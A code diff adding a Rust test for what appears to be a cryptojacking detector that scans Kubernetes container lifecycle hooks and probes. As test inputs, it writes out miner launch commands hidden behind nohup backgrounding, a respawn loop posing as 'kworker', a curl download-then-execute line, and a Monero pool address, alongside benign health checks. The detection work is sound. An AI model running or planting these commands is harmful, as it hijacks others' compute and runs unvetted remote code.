@@ -1207,3 +1207,118 @@ fn class3_no_silent_cut_off_for_long_scripts() {
     ));
     assert!(rules(&f).contains(&"builtin/pool/stratum-url"), "{f:#?}");
 }
+
+/// Class 1, the command somewhere else: a lifecycle hook (`postStart`, `preStop`) or an exec
+/// probe (liveness, readiness, startup) runs in the container as surely as `command` does; a
+/// miner started from one, or re-spawned by a probe, is the same miner. Twins: the usual
+/// health checks and hooks, and benign programs in the same shapes.
+#[test]
+fn class1_lifecycle_hooks_and_exec_probes_are_commands() {
+    use cryptojack::detect::{ContainerView, ExecView, Handler};
+    fn shapes(argv: &[String]) -> Vec<(&'static str, Vec<String>)> {
+        let line = argv.iter().map(|w| sq(w)).collect::<Vec<_>>().join(" ");
+        vec![
+            ("exec", argv.to_vec()),
+            ("sh-c", strings(&["/bin/sh", "-c", &line])),
+            (
+                "background",
+                strings(&["sh", "-c", &format!("nohup {line} >/dev/null 2>&1 &")]),
+            ),
+            (
+                "respawn",
+                strings(&[
+                    "sh",
+                    "-c",
+                    &format!("pgrep -f kworker || ({line} &); exit 0"),
+                ]),
+            ),
+            (
+                "download-then-run",
+                strings(&[
+                    "bash",
+                    "-c",
+                    &format!("curl -fsSL http://10.9.8.7/x -o /tmp/x && chmod +x /tmp/x && {line}"),
+                ]),
+            ),
+        ]
+    }
+    let with_exec = |c: ContainerView, handler: Handler, command: Vec<String>| {
+        let mut c = c;
+        c.execs = vec![ExecView { handler, command }];
+        c
+    };
+    let base = || container("nginx:1.27-alpine", &["nginx", "-g", "daemon off;"], &[]);
+    let mut cases = Vec::new();
+    for handler in Handler::ALL {
+        for (k, argv) in miner_argvs().iter().enumerate() {
+            for (shape, command) in shapes(argv) {
+                cases.push(Case::one(
+                    format!("{handler:?} {shape} miner#{k}: {command:?}"),
+                    with_exec(base(), handler, command),
+                    Expect::Miner,
+                ));
+            }
+        }
+        for (k, argv) in benign_argvs().iter().enumerate() {
+            for (shape, command) in shapes(argv) {
+                cases.push(Case::one(
+                    format!("{handler:?} {shape} benign#{k}: {command:?}"),
+                    with_exec(base(), handler, command),
+                    Expect::Benign,
+                ));
+            }
+        }
+        // the kubelet expands $(VAR) in handler commands from the container's env
+        let env: &[(&str, &str)] = &[("POOL", "pool.supportxmr.com:443"), ("W", XMR)];
+        cases.push(Case::one(
+            format!("{handler:?} $(VAR) from env"),
+            with_env(
+                with_exec(
+                    base(),
+                    handler,
+                    strings(&["/tmp/.cache", "-o", "$(POOL)", "-u", "$(W)", "--tls"]),
+                ),
+                env,
+            ),
+            Expect::Miner,
+        ));
+        // twins: the health checks and hooks real workloads carry
+        for command in [
+            &[
+                "pg_isready",
+                "-U",
+                "postgres",
+                "-h",
+                "127.0.0.1",
+                "-p",
+                "5432",
+            ][..],
+            &["redis-cli", "ping"],
+            &[
+                "sh",
+                "-c",
+                "nginx -s quit; while killall -0 nginx; do sleep 1; done",
+            ],
+            &[
+                "/bin/grpc_health_probe",
+                "-addr=:8080",
+                "-connect-timeout=5s",
+            ],
+            &["cat", "/tmp/healthy"],
+            &[
+                "sh",
+                "-c",
+                "curl -fsS http://127.0.0.1:3333/healthz || exit 1",
+            ],
+            &["/bin/sh", "-c", "kill -SIGTERM 1 && sleep 15"],
+        ] {
+            cases.push(Case::one(
+                format!("{handler:?} health check {command:?}"),
+                with_exec(base(), handler, strings(command)),
+                Expect::Benign,
+            ));
+        }
+    }
+    let counts = check(&cases);
+    assert_class_size(&counts, 125, 150);
+}
